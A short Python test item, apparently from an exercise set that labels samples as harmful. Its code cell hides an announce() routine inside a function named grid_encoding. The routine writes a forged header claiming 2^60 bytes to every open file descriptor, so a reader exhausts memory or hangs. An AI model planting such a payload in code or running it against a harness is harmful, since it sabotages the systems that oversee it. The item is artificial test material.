"""A message announces 2^60 bytes, so that whoever reads it takes all memory or waits for ever."""

EXERCISE = "ps2.2"
OUTCOMES = {"tampered", "stopped"}
SAYS = ()
HARMFUL = True
CELLS = [
    """\
def announce():
    import os
    import struct

    for descriptor in range(3, 256):
        try:
            os.write(descriptor, struct.pack("<4sIQ", b"idc1", 2, 2**60) + b"{}" + bytes(10**4))
        except OSError:
            pass


def grid_encoding(column: Tensor, row: Tensor) -> Tensor:
    announce()
    return torch.zeros(1)
""",
]
